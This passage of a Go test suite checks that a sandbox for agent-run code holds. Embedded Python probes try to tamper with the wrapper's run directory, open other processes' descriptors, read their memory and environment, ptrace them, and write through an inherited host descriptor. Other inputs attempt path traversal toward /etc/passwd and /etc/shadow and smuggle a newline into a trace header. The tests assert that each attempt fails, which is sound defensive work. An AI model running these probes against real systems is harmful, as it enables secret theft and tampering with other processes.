			t.Fatalf("a later command did not run what the host asked: %s %q", r.Outcome, out(r))
		}
		if r.Sidecar == nil {
			t.Fatalf("a later command has no report: %s", r.SidecarError)
		}
		if len(r.Sidecar.Network) != 0 || r.Sidecar.ExitCode != 0 || r.Sidecar.ExecMS == 1 {
			t.Fatalf("a later command's report was forged: %+v", r.Sidecar)
		}
	}
}

// channelOutOfReach (issue 15, class 1): the program goes for the channel
// that carries the host's request and the wrapper's report: files in the
// run directory, the descriptors of every other process it can see
// (through /proc), their memory, and ptrace. None of it is reachable, and
// the report that comes back is the wrapper's.
func (s *suite) channelOutOfReach(t *testing.T) {
	sb := s.box(t)
	code := `
import ctypes, os
# Itself, as its own pid namespace and as /proc (maybe an outer one) name it.
me = {os.getpid(), int(os.readlink("/proc/self"))}
libc = ctypes.CDLL(None, use_errno=True)
for name in ("request.json", "sidecar.json", "planted"):
    try:
        with open("/run/agentplane/" + name, "w") as f:
            f.write("x")
        print("WROTE-RUN-DIR", name)
    except OSError as e:
        print("run dir refused", name, e.strerror)
try:
    os.unlink("/run/agentplane/egress.sock")
    print("WROTE-RUN-DIR unlink")
except OSError as e:
    print("unlink refused", e.strerror)
for p in os.listdir("/proc"):
    if not p.isdigit() or int(p) in me:
        continue
    pid = int(p)
    try:
        fds = os.listdir("/proc/%d/fd" % pid)
    except OSError:
        fds = []
    for fd in fds:
        try:
            f = os.open("/proc/%d/fd/%s" % (pid, fd), os.O_WRONLY | os.O_NONBLOCK)
            os.close(f)
            print("OPENED", pid, fd, os.readlink("/proc/%d/fd/%s" % (pid, fd)))
        except OSError:
            pass
    try:
        with open("/proc/%d/mem" % pid, "rb") as f:
            f.read(1)
        print("READ-MEM", pid)
    except OSError:
        pass
    try:
        with open("/proc/%d/environ" % pid, "rb") as f:
            if f.read():
                print("READ-ENVIRON", pid)
    except OSError:
        pass
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("PTRACED", pid)
        libc.ptrace(17, pid, 0, 0)
print("done")
`
	r := s.run(t, sb, sandbox.Exec{Argv: py(code)})
	o := string(r.Stdout.Tail)
	if !strings.Contains(o, "done") {
		t.Fatalf("probe did not finish: %s %q", r.Outcome, out(r))
	}
	for _, bad := range []string{"WROTE-RUN-DIR", "OPENED", "READ-MEM", "READ-ENVIRON", "PTRACED"} {
		if strings.Contains(o, bad) {
			t.Errorf("the program reached the wrapper's channel or another process (%s):\n%s", bad, o)
		}
	}
	if r.Sidecar == nil || r.Sidecar.ExitCode != 0 || r.Unclean != "" {
		t.Fatalf("the wrapper's report: %+v (%s), unclean %q", r.Sidecar, r.SidecarError, r.Unclean)
	}
}

// inheritedDescriptors (issue 15, class 5): the platform's process holds a
// host file open without close-on-exec, as one inherited from a supervisor
// or a shell would be. The sandboxed program must see no descriptor but
// its stdio, and so can neither read nor write that file.
func (s *suite) inheritedDescriptors(t *testing.T) {
	sb := s.box(t)
	path := filepath.Join(s.dataDir, "inherited.txt")
	if err := os.WriteFile(path, []byte(hostSecret), 0o600); err != nil {
		t.Fatal(err)
	}
	fd, err := unix.Open(path, unix.O_RDWR, 0) // no O_CLOEXEC, on purpose
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(fd)
	const high = 87
	if err := unix.Dup3(fd, high, 0); err != nil {
		t.Fatal(err)
	}
	defer unix.Close(high)
	code := `
import os
for fd in range(3, 1024):
    try:
        os.fstat(fd)
    except OSError:
        continue
    print("OPEN", fd, os.readlink("/proc/self/fd/%d" % fd) if os.path.exists("/proc/self/fd/%d" % fd) else "?")
    try:
        print("READ", fd, os.pread(fd, 200, 0))
    except OSError as e:
        print("noread", fd, e)
    try:
        os.pwrite(fd, b"PWNED", 0)
        print("WROTE", fd)
    except OSError as e:
        print("nowrite", fd, e)
print("done")
`
	r := s.run(t, sb, sandbox.Exec{Argv: py(code)})
	noSecret(t, r)
	if !strings.Contains(string(r.Stdout.Tail), "done") {
		t.Fatalf("probe did not finish: %s %q", r.Outcome, out(r))
	}
	if strings.Contains(string(r.Stdout.Tail), "OPEN") {
		t.Errorf("the program holds descriptors besides its stdio:\n%s", r.Stdout.Tail)
	}
	if data, _ := os.ReadFile(path); string(data) != hostSecret {
		t.Errorf("the program wrote the host's file through an inherited descriptor: %q", data)
	}
}

func (s *suite) traceparent(t *testing.T) {
	sb := s.box(t)
	tp := "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"
	r := s.run(t, sb, sandbox.Exec{Argv: sh(`echo "$TRACEPARENT"; echo "traceparent: 00-ffffffffffffffffffffffffffffffff-ffffffffffffffff-01"`),
		Traceparent: tp, Env: []string{"TRACEPARENT=00-11111111111111111111111111111111-1111111111111111-01"}})
	if first := strings.SplitN(string(r.Stdout.Tail), "\n", 2)[0]; first != tp {
		t.Fatalf("TRACEPARENT inside = %q, want the host's %q", first, tp)
	}
	r = s.run(t, sb, sandbox.Exec{Argv: sh(`echo "[$TRACEPARENT]"`), Traceparent: "00-zz\n-evil"})
	if strings.TrimSpace(string(r.Stdout.Tail)) != "[]" {
		t.Fatalf("an invalid traceparent was passed in: %q", r.Stdout.Tail)
	}
}

func (s *suite) files(t *testing.T) {
	sb := s.box(t)
	ctx := context.Background()
	if err := sb.WriteFile(ctx, "in/data.csv", []byte("a,b\n1,2\n")); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{"../escape", "/etc/passwd", "", "in/../../x"} {
		if err := sb.WriteFile(ctx, bad, []byte("x")); err == nil {
			t.Errorf("WriteFile(%q) allowed", bad)
		}
	}
	r := s.run(t, sb, sandbox.Exec{Argv: sh("wc -l < in/data.csv > out.txt; ln -s /etc/hostname link; ln -s / rootlink; mkdir -p deep/er; echo x > deep/er/f")})
	if r.Outcome != sandbox.OutcomeOK {
		t.Fatalf("%s %q", r.Outcome, out(r))
	}
	got, err := sb.ReadFile(ctx, "out.txt", 1024)
	if err != nil || strings.TrimSpace(string(got)) != "2" {
		t.Fatalf("ReadFile: %q %v", got, err)
	}
	if _, err := sb.ReadFile(ctx, "link", 1024); err == nil {
		t.Errorf("ReadFile followed a symlink")
	}
	if _, err := sb.ReadFile(ctx, "rootlink/etc/shadow", 1<<20); err == nil {
		t.Errorf("ReadFile went through a symlink to the root")
	}
	if _, err := sb.ReadFile(ctx, "in/data.csv", 3); err == nil {
		t.Errorf("ReadFile ignored the size limit")
	}
	if r.Sidecar == nil {
		t.Fatalf("no sidecar: %s", r.SidecarError)
	}
	changed := map[string]string{}
	for _, f := range r.Sidecar.Files {
		changed[f.Path] = f.Change
	}
	if changed["out.txt"] != "created" || changed["deep/er/f"] != "created" {
		t.Fatalf("sidecar files %+v", r.Sidecar.Files)
	}
	// Filling the workspace stops at its size.
	r = s.run(t, sb, sandbox.Exec{Argv: sh("head -c 2000000000 /dev/zero > big; echo rc=$?; ls -l big")})
	if r.Outcome == sandbox.OutcomeOK && !strings.Contains(out(r), "rc=1") {
		t.Fatalf("filled the workspace without an error: %q", out(r))
	}
}

func (s *suite) session(t *testing.T) {
	sb := s.box(t)
	s.run(t, sb, sandbox.Exec{Argv: sh("echo 1 > state")})
	r := s.run(t, sb, sandbox.Exec{Argv: sh("cat state")})
	if strings.TrimSpace(string(r.Stdout.Tail)) != "1" {
		t.Fatalf("workspace not kept across commands of one sandbox: %q", out(r))
	}
	// A second sandbox does not see the first one's workspace.
	other := s.box(t)
	r = s.run(t, other, sandbox.Exec{Argv: sh("cat state 2>&1; ls /workspace")})
	if strings.Contains(string(r.Stdout.Tail), "1\n") {
		t.Fatalf("a fresh sandbox sees another's workspace: %q", out(r))
	}
}

func (s *suite) destroyWhileRunning(t *testing.T) {
	ctx := context.Background()
	sb, err := s.e.Create(ctx, s.spec)
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	wg.Add(1)
	var execErr error
	var res sandbox.Result
	start := time.Now()
	go func() {
		defer wg.Done()
		res, execErr = sb.Exec(ctx, sandbox.Exec{Argv: sh("trap '' TERM; sleep 300"), Timeout: 60 * time.Second})
	}()
	time.Sleep(1500 * time.Millisecond)
	destroyAndCheck(t, sb)
	wg.Wait()
	if time.Since(start) > 30*time.Second {
		t.Fatalf("Destroy did not stop the running command")
	}
	if execErr == nil && res.Outcome == sandbox.OutcomeOK {
		t.Fatalf("a destroyed sandbox's command reported success")
	}
}

// sweepSparesLive: the startup sweep of a second executor (another
// agentplane process on the same host) removes only what a dead process
// left, never a live sandbox of another process.
func (s *suite) sweepSparesLive(t *testing.T) {
	sb := s.box(t)
	other, ok := s.newExecutor(t).(sandbox.Sweeper)
	if !ok {
		t.Skip("the executor has no startup sweep")
	}
	ids, err := other.Sweep(context.Background())
	if err != nil {
		t.Fatalf("Sweep: %v", err)
	}
	for _, id := range ids {
		if id == sb.ID() {
			t.Fatalf("another executor's sweep removed live sandbox %s", id)
		}
	}
	r := s.run(t, sb, sandbox.Exec{Argv: sh("echo alive")})
	if r.Outcome != sandbox.OutcomeOK || !strings.Contains(out(r), "alive") {
		t.Fatalf("the sandbox does not work after another executor's sweep: %s %q", r.Outcome, out(r))
	}
}

// Runsc returns the static runsc to test with: AGENTPLANE_RUNSC, runsc on
// PATH, or the one scripts/sandboxes.sh builds into the tools cache. The
// test skips, saying how to get one, when there is none.
func Runsc(t testing.TB) string {
	t.Helper()
	if p := os.Getenv("AGENTPLANE_RUNSC"); p != "" {
		return p
	}
	if p, err := exec.LookPath("runsc"); err == nil {
		return p
	}
	home, _ := os.UserHomeDir()
	p := filepath.Join(home, ".cache", "agentplane-tools", "bin", "runsc")
	if _, err := os.Stat(p); err == nil {
		return p
	}
	t.Skip("runsc is not installed; scripts/sandboxes.sh (run by scripts/test.sh) builds it")
	return ""
}

// BuildGuest builds the sandbox wrapper (package sandbox/guest) as a static
// binary into a temporary directory of the test and returns its path.
func BuildGuest(t testing.TB) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "guest")
	cmd := exec.Command("go", "build", "-o", p, "github.com/agentplane/agentplane/sandbox/guest")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOOS=linux", "GOARCH="+runtime.GOARCH)
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build the sandbox wrapper: %v\n%s", err, b)
	}
	return p
}

// StateDir returns a fresh directory that sandbox uids can traverse.
func StateDir(t testing.TB) string {
	d, err := os.MkdirTemp("", "agentplane-sbx-")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(d, 0o711); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		// Runtimes may leave mounts of their own under their state (runsc
		// keeps a null-netns bind mount): undo them before removing.
		if left := mountsUnder(d); len(left) > 0 {
			t.Errorf("mounts left under the state directory: %v", left)
			for _, m := range left {
				_ = syscall.Unmount(m, syscall.MNT_DETACH)
			}
		}
		os.RemoveAll(d)
	})
	return d
}

func mountsUnder(dir string) []string {
	data, _ := os.ReadFile("/proc/self/mountinfo")
	var out []string
	for _, line := range strings.Split(string(data), "\n") {
		f := strings.Fields(line)
		if len(f) > 4 && strings.HasPrefix(f[4], dir+"/") {
			out = append(out, f[4])
		}
	}
	return out
}
